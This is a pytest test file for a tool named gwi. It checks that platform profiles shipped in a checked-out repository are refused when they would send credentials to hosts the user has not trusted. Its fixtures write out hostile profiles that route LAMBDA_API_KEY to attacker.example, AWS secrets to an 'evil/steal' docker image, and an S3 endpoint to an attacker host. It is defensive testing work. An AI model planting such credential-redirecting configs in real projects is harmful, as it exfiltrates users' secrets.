"""Where profiles come from and where their secrets go (issue 12 #7): a checked-out repository's
``platforms/`` must not redirect credentials."""

from __future__ import annotations

import json
import os
import stat
import subprocess
import sys
from pathlib import Path

import pytest

from gwi.adapters.base import (PACKAGE_PLATFORMS, UntrustedProfile, load_profiles, secret_routes, trust_file,
                               trust_profile)
from gwi.yamlfile import ConfigError

ATTACKER = "http://attacker.example:8080"
EVIL_LAMBDA = f"""adapter: lambda
gpus: 1
credentials: [LAMBDA_API_KEY]
options:
  api_url: {ATTACKER}/api/v1
  instance_types: [gpu_1x_a100]
  image: ghcr.io/you/gwi:latest
"""


@pytest.fixture
def repo(tmp_path, monkeypatch):
    """A checked-out repository shipping a Lambda profile that sends the API key to an attacker."""
    r = tmp_path / "checkout"
    (r / "platforms").mkdir(parents=True)
    (r / "platforms" / "lambda.yaml").write_text(EVIL_LAMBDA)
    monkeypatch.delenv("GWI_PLATFORMS", raising=False)
    monkeypatch.setenv("XDG_CONFIG_HOME", str(tmp_path / "config"))  # never the real ~/.config
    return r


def test_profiles_in_the_current_directory_are_not_loaded(repo, monkeypatch):
    monkeypatch.chdir(repo)
    profiles = load_profiles()
    lam = profiles["lambda"]
    assert Path(lam.path) == PACKAGE_PLATFORMS / "lambda.yaml"  # the old code loaded ./platforms/lambda.yaml
    assert lam.options.api_url == "https://cloud.lambdalabs.com/api/v1"


def test_default_home_in_the_current_directory_is_checked(repo, monkeypatch):
    """Without GWI_HOME, gwi's home is the nearest .gwi/ upward: a repository can ship that too, so it
    is not trusted."""
    (repo / ".gwi" / "platforms").mkdir(parents=True)
    (repo / "platforms" / "lambda.yaml").rename(repo / ".gwi" / "platforms" / "lambda.yaml")
    monkeypatch.delenv("GWI_HOME")
    monkeypatch.chdir(repo)
    with pytest.raises(UntrustedProfile, match="attacker.example"):
        load_profiles()
    (repo / "src").mkdir()
    monkeypatch.chdir(repo / "src")  # found upward, as gwi finds its state: the same
    with pytest.raises(UntrustedProfile, match="attacker.example"):
        load_profiles()
    assert trust_file() == Path(os.environ["XDG_CONFIG_HOME"]) / "gwi" / "trusted-profiles.json"


def test_a_redirecting_profile_is_refused_until_trusted_and_again_after_an_edit(repo, monkeypatch):
    monkeypatch.setenv("GWI_PLATFORMS", str(repo / "platforms"))  # what --platforms DIR sets
    path = repo / "platforms" / "lambda.yaml"
    with pytest.raises(UntrustedProfile) as e:
        load_profiles()
    msg = str(e.value)
    assert str(path) in msg and "LAMBDA_API_KEY" in msg and f"Lambda API {ATTACKER}" in msg
    assert f"gwi platforms --trust {path}" in msg

    entry = trust_profile(path)
    assert load_profiles()["lambda"].options.api_url == f"{ATTACKER}/api/v1"
    f = trust_file()
    assert f == Path(os.environ["GWI_HOME"]) / "trusted-profiles.json"
    assert stat.S_IMODE(f.stat().st_mode) == 0o600
    saved = json.loads(f.read_text())["profiles"]
    assert saved == [entry] and entry["path"] == str(path.resolve())
    assert "LAMBDA_API_KEY" in entry["variables"] and f"Lambda API {ATTACKER}" in entry["destinations"]
    assert len(entry["sha256"]) == 64

    path.write_text(EVIL_LAMBDA.replace("8080", "8081"))  # any edit: trusted no more
    with pytest.raises(UntrustedProfile, match="changed since you trusted it"):
        load_profiles()


def test_a_profile_naming_a_new_secret_is_refused(repo, monkeypatch):
    (repo / "platforms" / "lambda.yaml").unlink()
    (repo / "platforms" / "kaggle.yaml").write_text(
        "adapter: kaggle\ncredentials: [KAGGLE_USERNAME, GITHUB_TOKEN]\n")  # the default endpoint, a new variable
    monkeypatch.setenv("GWI_PLATFORMS", str(repo / "platforms"))
    with pytest.raises(UntrustedProfile) as e:
        load_profiles()
    assert "GITHUB_TOKEN to Kaggle API https://www.kaggle.com" in str(e.value)
    assert "KAGGLE_USERNAME" not in str(e.value)  # the default sends that one there already


def test_project_profiles_that_send_nothing_new_load_without_trust(repo, monkeypatch):
    (repo / "platforms" / "lambda.yaml").unlink()
    (repo / "platforms" / "box.yaml").write_text("adapter: local\ncapacity: 3\noptions: {runtime: process}\n")
    (repo / "platforms" / "kg.yaml").write_text("adapter: kaggle\ncredentials: [KAGGLE_USERNAME, KAGGLE_KEY]\n"
                                                "options: {api_endpoint: 'https://www.kaggle.com/api/v1'}\n")
    monkeypatch.setenv("GWI_PLATFORMS", str(repo / "platforms"))
    profiles = load_profiles()
    assert profiles["box"].capacity == 3 and "kg" in profiles
    assert not trust_file().exists()


def test_a_local_profile_running_another_docker_image_with_the_secrets_is_refused(repo, monkeypatch):
    (repo / "platforms" / "lambda.yaml").unlink()
    (repo / "platforms" / "local.yaml").write_text("adapter: local\noptions: {image: evil/steal:latest}\n")
    monkeypatch.setenv("GWI_PLATFORMS", str(repo / "platforms"))
    with pytest.raises(UntrustedProfile, match="AWS_\\* to docker image evil/steal:latest on this machine"):
        load_profiles()


def test_profiles_in_gwi_home_are_the_users_own(repo, monkeypatch):
    home = Path(os.environ["GWI_HOME"])
    (home / "platforms").mkdir(parents=True)
    (home / "platforms" / "lambda.yaml").write_text(EVIL_LAMBDA)
    lam = load_profiles()["lambda"]
    assert lam.path == str(home / "platforms" / "lambda.yaml") and lam.options.api_url == f"{ATTACKER}/api/v1"


def test_secret_routes_say_which_secret_goes_where(repo, monkeypatch):
    routes = secret_routes(load_profiles())
    lam = str(PACKAGE_PLATFORMS / "lambda.yaml")
    assert ("lambda", "LAMBDA_API_KEY", "Lambda API https://cloud.lambdalabs.com", lam) in routes
    assert ("kaggle", "KAGGLE_KEY", "Kaggle API https://www.kaggle.com", str(PACKAGE_PLATFORMS / "kaggle.yaml")) in routes
    assert any(r[0] == "colab" and r[1] == "GWI_COLAB_DRIVE_TOKEN" for r in routes)
    assert all(r[1] != "GITHUB_TOKEN" for r in routes)


def test_an_unreadable_trust_file_is_a_clear_error(repo, monkeypatch):
    monkeypatch.setenv("GWI_PLATFORMS", str(repo / "platforms"))
    trust_file().parent.mkdir(parents=True, exist_ok=True)
    trust_file().write_text("{not json")
    with pytest.raises(ConfigError, match="trusted-profiles.json: expected .* delete it"):
        load_profiles()


def test_the_cli_refuses_with_one_line(repo):
    env = {**os.environ, "GWI_PLATFORMS": str(repo / "platforms")}
    r = subprocess.run([sys.executable, "-m", "gwi", "platforms"], cwd=repo, env=env, capture_output=True,
                       text=True, timeout=60)
    assert r.returncode != 0 and "Traceback" not in r.stderr, r.stderr
    assert "refusing this platform profile" in r.stderr and "attacker.example" in r.stderr


def test_kaggle_accelerators_are_a_setting_and_a_retired_one_is_refused(tmp_path):
    from gwi.adapters.base import parse_profile
    from gwi.yamlfile import ConfigError

    shipped = parse_profile(PACKAGE_PLATFORMS / "kaggle.yaml")
    assert (shipped.gpu, shipped.gpus, shipped.options.machine_shape) == ("T4", 2, "NvidiaTeslaT4")
    p = tmp_path / "old.yaml"
    p.write_text("adapter: kaggle\ngpu: P100\ngpus: 1\noptions:\n  machine_shape: NvidiaTeslaP100\n")
    with pytest.raises(ConfigError) as e:
        parse_profile(p)
    assert str(e.value) == (f"{p}:5: options.machine_shape: expected one of the accelerators Kaggle offers "
                            "(NvidiaTeslaT4), got 'NvidiaTeslaP100'; Kaggle retired the P100")
    # when Kaggle offers another, the profile says so; no code changes
    p.write_text("adapter: kaggle\noptions:\n  machine_shape: NvidiaL4\n  accelerators: [NvidiaTeslaT4, NvidiaL4]\n")
    assert parse_profile(p).options.machine_shape == "NvidiaL4"


# -- destinations a client chooses by itself (issue 27) ------------------------------------------------

def test_a_kaggle_profile_without_credentials_still_needs_trust_to_send_the_key_elsewhere(repo, monkeypatch):
    """The kaggle client signs in from KAGGLE_USERNAME/KAGGLE_KEY or kaggle.json by itself: a profile
    listing no credentials but another api_endpoint had `gwi check` send `Authorization: Basic ...`
    there, untrusted, with no route shown by gwi platforms."""
    import http.server
    import threading

    seen = []

    class Record(http.server.BaseHTTPRequestHandler):
        def do_GET(self):  # noqa: N802
            seen.append(dict(self.headers))
            self.send_response(200)
            self.end_headers()

        do_POST = do_GET  # noqa: N815

        def log_message(self, *_):
            pass

    srv = http.server.ThreadingHTTPServer(("127.0.0.1", 0), Record)
    threading.Thread(target=srv.serve_forever, daemon=True).start()
    try:
        url = f"http://127.0.0.1:{srv.server_port}"
        (repo / "platforms" / "lambda.yaml").unlink()
        (repo / "platforms" / "kg.yaml").write_text(f"adapter: kaggle\ncredentials: []\noptions: {{api_endpoint: '{url}'}}\n")
        monkeypatch.setenv("KAGGLE_USERNAME", "alice")
        monkeypatch.setenv("KAGGLE_KEY", "kaggle-SECRET-key")
        monkeypatch.setenv("GWI_PLATFORMS", str(repo / "platforms"))
        with pytest.raises(UntrustedProfile) as e:
            load_profiles()
        assert f"KAGGLE_KEY to Kaggle API {url}; ~/.kaggle/kaggle.json to Kaggle API {url}" in str(e.value)
        r = subprocess.run([sys.executable, "-m", "gwi", "check", "--deadline", "5"], capture_output=True, text=True,
                           timeout=120)
        assert r.returncode != 0 and "refusing this platform profile" in r.stderr, r.stdout + r.stderr
        assert seen == [], "a request reached the profile's endpoint"
    finally:
        srv.shutdown()
    # the package's own Kaggle profiles: the client's sign-in is listed where it goes
    routes = secret_routes(load_profiles([PACKAGE_PLATFORMS]))
    for var in ("KAGGLE_USERNAME", "KAGGLE_KEY", "~/.kaggle/kaggle.json"):
        assert ("kaggle", var, "Kaggle API https://www.kaggle.com", str(PACKAGE_PLATFORMS / "kaggle.yaml")) in routes


def test_a_store_endpoint_set_for_the_jobs_is_a_destination(repo, monkeypatch):
    (repo / "platforms" / "lambda.yaml").write_text(EVIL_LAMBDA.replace(f"{ATTACKER}/api/v1", "https://cloud.lambdalabs.com/api/v1")
                                                    + "  env: {AWS_ENDPOINT_URL: 'https://s3.attacker.example:9000'}\n")
    monkeypatch.setenv("GWI_PLATFORMS", str(repo / "platforms"))
    with pytest.raises(UntrustedProfile, match=r"AWS_\* to S3 endpoint https://s3\.attacker\.example:9000"):
        load_profiles()
